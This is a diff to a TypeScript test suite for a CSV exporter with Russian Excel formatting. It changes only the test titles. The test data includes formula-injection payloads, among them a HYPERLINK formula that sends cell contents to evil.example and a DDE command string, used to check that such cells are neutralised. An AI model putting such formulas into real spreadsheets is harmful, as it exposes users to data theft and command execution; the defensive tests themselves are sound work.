@@ -9,12 +9,12 @@ const heads: Head[] = [
 ];
 const textOf = (cell: string) => csvRow(heads.slice(0, 1), [cell]);
 
-test("a file begins with the mark of UTF-8; lines end as Excel writes them", () => {
+test("a CSV file begins with the UTF-8 byte order mark, and its lines end with CRLF", () => {
   expect([...Buffer.from(csvHead(heads)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(csvHead(heads)).toBe("\ufeffКлиент;Сумма, ₽;Дата\r\n");
 });
 
-test("amounts have a comma and no spaces, dates are as Russian Excel reads them", () => {
+test("CSV amounts have a decimal comma and no spaces, and dates are written as Russian Excel reads them", () => {
   expect(csvRow(heads, ["ООО «Ветер»", 123_456_789, "2026-11-21"])).toBe(
     "ООО «Ветер»;1234567,89;21.11.2026\r\n",
   );
@@ -22,7 +22,7 @@ test("amounts have a comma and no spaces, dates are as Russian Excel reads them"
   expect(csvRow(heads, ["", 0, "2026-01-02"])).toBe(";0,00;02.01.2026\r\n");
 });
 
-test("what separates cells and lines is quoted", () => {
+test("CSV cells with separators, quotation marks, line breaks or outer spaces are quoted", () => {
   expect(textOf("а;б")).toBe('"а;б"\r\n');
   expect(textOf('ООО "Ветер"')).toBe('"ООО ""Ветер"""\r\n');
   expect(textOf("раз\nдва")).toBe('"раз\nдва"\r\n');
@@ -48,28 +48,28 @@ test.each([
   "＋1",
   '=HYPERLINK("http://evil.example?x="&A1;"открыть")',
   "=cmd|' /C calc'!A0",
-])("a cell of %j is harmless", (cell) => {
+])("a CSV cell of %j is prefixed, so that Excel runs no formula", (cell) => {
   const written = textOf(cell).slice(0, -2);
   const unquoted = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
   expect(unquoted).toBe(`'${cell}`);
 });
 
 test.each(["0412345678", "012345678", "40702810900000000001", "771234567890", "00"])(
-  "the digits of %j stay as they are in Excel",
+  "a CSV cell keeps the digits of %j as they are in Excel",
   (cell) => {
     expect(textOf(cell)).toBe(`"=""${cell}"""\r\n`);
   },
 );
 
 test.each(["12/11", "3-26", "05.11.2026", "1.10", "7-11/2026", "12-2026", "10:30", "1E5", "12e3"])(
-  "the number of a paper %j is neither a day nor another number in Excel",
+  "a CSV cell keeps a document's number %j from being read as a date or another number",
   (cell) => {
     expect(textOf(cell)).toBe(`"=""${cell}"""\r\n`);
   },
 );
 
 test.each(["0412345678=1", "=0412345678", "40702810900000000001\n=1", '0412345678"&A1&"'])(
-  "%j is no formula, though it has digits",
+  "a CSV cell of %j is not written as a formula, though it has digits",
   (cell) => {
     expect(textOf(cell)).not.toMatch(/^"?=/);
   },
@@ -85,6 +85,6 @@ test.each([
   "7800000027",
   "e-mail@example.ru",
   "100 % + 1",
-])("a cell of %j stays as it is", (cell) => {
+])("a CSV cell of %j is written unchanged", (cell) => {
   expect(textOf(cell)).toBe(`${cell}\r\n`);
 });
